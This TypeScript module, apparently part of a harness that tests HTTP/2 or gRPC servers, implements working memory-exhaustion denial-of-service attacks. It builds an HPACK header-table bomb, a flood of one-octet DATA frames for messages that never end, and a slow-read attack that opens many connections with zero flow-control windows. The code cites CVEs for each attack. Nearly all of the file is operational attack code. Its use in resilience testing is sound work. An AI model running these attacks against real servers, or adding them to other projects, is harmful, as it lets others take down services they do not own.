/** Attacks that want much memory for little traffic. */
import { setImmediate } from "node:timers/promises";
import { clientPreface, data, flag, frameType, headers, settingId, settings } from "../wire/frames.js";
import { indexed, inserted, methodPath, newestIndex, plainRequest } from "../wire/header-blocks.js";
import type { RawConnection, ReceivedFrame } from "../wire/raw-connection.js";
import type { Attack, Attacker } from "./attacker.js";

const bombConnections = 10;
const bombStreams = 100;
/** SETTINGS with windows of 0: no answer can leave. */
const noWindow = settings(settingId.INITIAL_WINDOW_SIZE, 0);

/**
 * CVE-2016-6581, CVE-2026-49975: one field goes into the table, every stream's block refers to it as often as it can,
 * and all of them are held.
 */
export function headerBomb(valueBytes: number, references: number): Attack {
  const value = "v".repeat(valueBytes);
  const first = headers(1, plainRequest(methodPath.bidi, inserted("x", value)));
  const block = Buffer.concat([
    plainRequest(methodPath.bidi),
    ...Array.from({ length: references }, () => indexed(newestIndex)),
  ]);
  return async (attacker) => {
    for (let i = 0; i < bombConnections && !attacker.isStopped; i++) {
      const connection = await attacker.open();
      connection?.write(Buffer.concat([clientPreface, noWindow, first]));
      for (let n = 1; n <= bombStreams && connection?.isOpen; n++) {
        connection.write(headers(1 + 2 * n, block));
        attacker.units++;
        await connection.writable();
        await setImmediate();
      }
    }
    await attacker.hold();
  };
}

const tinyStreams = 50;
const tinyOctets = 1_000_000;
const defaultWindowBytes = 65_535;
/** A message of which the stream never sees the end. */
const messagePrefix = Buffer.of(0, 0, 0x3f, 0xff, 0xff);

/** CVE-2026-84304: messages that come in DATA frames of one octet and never end. Keeps to the windows. */
export const tinyData: Attack = async (attacker) => {
  const connection = await attacker.open();
  if (connection === undefined) throw new Error("the attacker could not connect");
  const windows = new Windows(connection);
  connection.write(Buffer.concat([clientPreface, settings()]));
  const ids = Array.from({ length: tinyStreams }, (_, i) => 2 * i + 1);
  for (const id of ids) {
    connection.write(Buffer.concat([headers(id, plainRequest(methodPath.bidi)), data(id, messagePrefix)]));
    windows.take(id, messagePrefix.length);
  }
  while (attacker.units < tinyOctets && !attacker.isStopped && connection.isOpen) {
    const round = ids.filter((id) => windows.take(id, 1)).map((id) => data(id, Buffer.of(0x5a)));
    connection.write(Buffer.concat(round));
    attacker.units += round.length;
    await connection.writable();
    // Without a window there is nothing to do but to look for one.
    if (round.length < tinyStreams || attacker.units % 5000 === 0) await setImmediate();
  }
  await attacker.hold();
};

/** What the server lets the attacker send (RFC 9113 §6.9). */
class Windows {
  #connection = defaultWindowBytes;
  #initial = defaultWindowBytes;
  /** By stream: what was granted and taken beside the initial window. */
  readonly #deltas = new Map<number, number>();

  constructor(connection: RawConnection) {
    connection.onFrame = (frame) => this.#onFrame(frame);
  }

  take(streamId: number, bytes: number): boolean {
    const delta = this.#deltas.get(streamId) ?? 0;
    if (this.#connection < bytes || this.#initial + delta < bytes) return false;
    this.#connection -= bytes;
    this.#deltas.set(streamId, delta - bytes);
    return true;
  }

  #onFrame({ type, flags, streamId, payload }: ReceivedFrame): void {
    if (type === frameType.WINDOW_UPDATE) {
      const increment = payload.readUInt32BE(0);
      if (streamId === 0) this.#connection += increment;
      else this.#deltas.set(streamId, (this.#deltas.get(streamId) ?? 0) + increment);
    } else if (type === frameType.SETTINGS && (flags & flag.ACK) === 0) {
      for (let at = 0; at < payload.length; at += 6) {
        if (payload.readUInt16BE(at) === settingId.INITIAL_WINDOW_SIZE) this.#initial = payload.readUInt32BE(at + 2);
      }
    }
  }
}

/** CVE-2019-9511, -9517: responses of 4 MiB that nobody takes. `request` is an encoded ServerStreamRequest. */
export function slowRead(connections: number, request: Uint8Array): Attack {
  const message = Buffer.concat([Buffer.of(0, 0, 0, 0, request.length), request]);
  const opening = Buffer.concat([
    clientPreface,
    noWindow,
    headers(1, plainRequest(methodPath.serverStream)),
    data(1, message, flag.END_STREAM),
  ]);
  return async (attacker) => {
    await openMany(attacker, connections, (connection) => {
      connection.write(opening);
      attacker.units++;
    });
    await attacker.hold();
  };
}

const connectingAtOnce = 100;

export async function openMany(
  attacker: Attacker,
  connections: number,
  onOpen: (connection: RawConnection, index: number) => void,
): Promise<void> {
  let next = 0;
  const openSome = async (): Promise<void> => {
    while (next < connections && !attacker.isStopped) {
      const index = next++;
      const connection = await attacker.open();
      if (connection !== undefined) onOpen(connection, index);
    }
  };
  await Promise.all(Array.from({ length: connectingAtOnce }, openSome));
}
